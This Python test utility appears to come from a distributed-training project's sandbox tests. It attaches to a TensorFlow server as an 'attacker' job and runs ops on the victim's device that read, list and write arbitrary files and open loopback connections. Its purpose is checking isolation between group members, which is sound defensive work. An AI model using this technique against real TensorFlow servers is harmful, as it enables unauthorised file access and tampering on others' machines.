"""A malicious group member's tools, for the sandbox tests.

The host's coordinator reaches every worker's TF server by design (it runs each round there),
so a malicious host can ask a worker's server to run any op; a worker reaches no other
member's server at all (TF traffic flows one way), which is what the tests check. This is what
it tries, on the server's own device:

    python -m crowdd.testing.member_attack attack TARGET [--read P]... [--list D]... [--write P]... [--connect PORT]...
    python -m crowdd.testing.member_attack listen PORT SECONDS

``attack`` connects to ``TARGET`` (``127.0.0.1:PORT`` inside a job's network namespace) as the
cluster job ``attacker`` (when nothing accepts a TCP connection there it says ``reachable``
false and stops) and, on the victim's device: computes ``1 + 1`` (proof that it runs
ops there at all), reads each ``--read`` file (``tf.io.read_file``), lists each ``--list``
directory (``tf.io.matching_files``) (``--find TEXT``: and says whether each file read holds
``TEXT``), writes each ``--write`` file (``tf.io.write_file``), and
makes the victim open a TCP connection to each ``--connect`` port on its loopback (a tf.data
service client). It prints one JSON object: what worked and each error.

``listen`` serves ``PORT`` on 127.0.0.1 and prints ``ready``; when its stdin closes (or after
``SECONDS``) it prints one JSON list of the connections it accepted, each with the process that
opened it: run it in the victim's network namespace to see whether a ``--connect`` reached it.
"""

from __future__ import annotations

import argparse
import functools
import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable, Sequence
from typing import Any

CONNECT_WAIT = 8.0
VICTIM = "/job:victim/replica:0/task:0"


def _short(exc: BaseException) -> str:
    return f"{type(exc).__name__}: {str(exc).strip().splitlines()[0][:200] if str(exc).strip() else ''}"


def attack(target: str, reads: Sequence[str], lists: Sequence[str], writes: Sequence[str],
           connects: Sequence[int], find: str = "") -> dict[str, Any]:
    out: dict[str, Any] = {"ran_op": False, "read": {}, "list": {}, "write": {}, "connect": {}}
    victim_host, _, victim_port = target.rpartition(":")
    try:  # nothing listens there: TF would retry without end, so say so at once (before TF loads)
        socket.create_connection((victim_host, int(victim_port)), timeout=5).close()
    except OSError as exc:
        out["error"] = f"unreachable: {_short(exc)}"
        out["reachable"] = False
        return out
    out["reachable"] = True
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import tensorflow as tf
    from tensorflow.python.eager import context

    try:
        tf.config.experimental_connect_to_cluster(tf.train.ClusterSpec({"victim": [target]}), job_name="attacker")
    except Exception as exc:  # noqa: BLE001 - report it: the test decides
        out["error"] = _short(exc)
        return out
    with tf.device(VICTIM):
        try:
            out["ran_op"] = int(_settled(lambda: (tf.constant(1) + tf.constant(1)).numpy(), context)) == 2
        except Exception as exc:  # noqa: BLE001
            out["error"] = _short(exc)
        for path in reads:
            try:
                data = _settled(functools.partial(_numpy, tf.io.read_file, path), context)
                out["read"][path] = {"ok": True, "content": data[:64].decode("utf-8", "replace"),
                                     "found": bool(find) and find.encode() in data}
            except Exception as exc:  # noqa: BLE001
                out["read"][path] = {"ok": False, "error": _short(exc)}
        for d in lists:
            try:
                found = _settled(functools.partial(_numpy, tf.io.matching_files, f"{d.rstrip('/')}/*"), context)
                names = [n.decode() for n in found]
                out["list"][d] = {"ok": bool(names), "names": names[:10]}
            except Exception as exc:  # noqa: BLE001
                out["list"][d] = {"ok": False, "error": _short(exc)}
        for path in writes:
            try:
                tf.io.write_file(path, "written by a group member")
                context.async_wait()  # a remote op without outputs runs asynchronously: wait for its verdict
                out["write"][path] = {"ok": True}
            except Exception as exc:  # noqa: BLE001
                context.async_clear_error()
                out["write"][path] = {"ok": False, "error": _short(exc)}
        for port in connects:
            out["connect"][str(port)] = _connect(tf, port)
    return out


def _numpy(op: Callable[[str], Any], arg: str) -> Any:
    return op(arg).numpy()


def _settled(op: Callable[[], Any], context: Any, tries: int = 6) -> Any:
    """``op()``, asked again when TF lost track of its remote output ("Unable to find the
    relevant tensor remote_handle": seen against a busy coordinator) rather than giving the
    op's own verdict; any other error, or the last try's, is raised."""
    for left in range(tries - 1, -1, -1):
        try:
            return op()
        except Exception as exc:  # noqa: BLE001 - only the lost-handle error is retried
            if left == 0 or "remote_handle" not in str(exc):
                raise
            context.async_clear_error()
            time.sleep(0.2)
    raise AssertionError("unreachable")


def _connect(tf: Any, port: int) -> dict[str, Any]:
    """Ask the victim to read a tf.data service at 127.0.0.1:``port`` (its own loopback): its
    gRPC client connects there. The op blocks while it retries: give it :data:`CONNECT_WAIT`."""
    result: dict[str, Any] = {"asked": False}

    def run() -> None:
        try:
            ds = tf.data.experimental.service.from_dataset_id(
                "parallel_epochs", f"127.0.0.1:{port}", dataset_id="1",
                element_spec=tf.TensorSpec([], tf.int64), job_name="member-attack",
            )
            it = iter(ds)
            result["asked"] = True
            next(it)
        except Exception as exc:  # noqa: BLE001
            result["error"] = _short(exc)

    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(CONNECT_WAIT)
    return result


def listen(port: int, seconds: float) -> list[dict[str, Any]]:
    seen: list[dict[str, Any]] = []
    closed = threading.Event()

    def wait_stdin() -> None:
        sys.stdin.read()
        closed.set()

    threading.Thread(target=wait_stdin, daemon=True).start()
    held: list[socket.socket] = []  # held open: a gRPC client then waits instead of redialling
    try:
        with socket.create_server(("127.0.0.1", port)) as srv:
            print("ready", flush=True)
            deadline = time.monotonic() + seconds
            while (left := deadline - time.monotonic()) > 0 and not closed.is_set():
                srv.settimeout(min(left, 0.2))
                try:
                    conn, addr = srv.accept()
                except TimeoutError:
                    continue
                held.append(conn)
                seen.append({"peer": f"{addr[0]}:{addr[1]}", **_owner(addr[1], port)})
    finally:
        for conn in held:
            conn.close()
    return seen


def _owner(peer_port: int, port: int) -> dict[str, Any]:
    """The process that opened the connection from ``peer_port`` (we share its network
    namespace, so its socket is in this namespace's table)."""
    import psutil

    for _ in range(3):  # a process's fd table can change under the scan: look again
        for c in psutil.net_connections("tcp"):
            if c.laddr and c.laddr.port == peer_port and c.raddr and c.raddr.port == port and c.pid:
                try:
                    return {"pid": c.pid, "cmdline": " ".join(psutil.Process(c.pid).cmdline())[:300]}
                except psutil.Error:
                    return {"pid": c.pid}
        time.sleep(0.05)
    return {}


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m crowdd.testing.member_attack")
    sub = p.add_subparsers(dest="cmd", required=True)
    a = sub.add_parser("attack")
    a.add_argument("target")
    a.add_argument("--read", action="append", default=[])
    a.add_argument("--list", action="append", default=[])
    a.add_argument("--write", action="append", default=[])
    a.add_argument("--connect", action="append", type=int, default=[])
    a.add_argument("--find", default="", help="say whether each file read holds this text")
    li = sub.add_parser("listen")
    li.add_argument("port", type=int)
    li.add_argument("seconds", type=float)
    args = p.parse_args(argv)
    if args.cmd == "listen":
        print(json.dumps(listen(args.port, args.seconds)), flush=True)
        return 0
    print(json.dumps(attack(args.target, args.read, args.list, args.write, args.connect, args.find)), flush=True)
    sys.stdout.flush()
    os._exit(0)  # the tf.data client may still be retrying in its thread; TF's teardown would hang


if __name__ == "__main__":
    sys.exit(main())
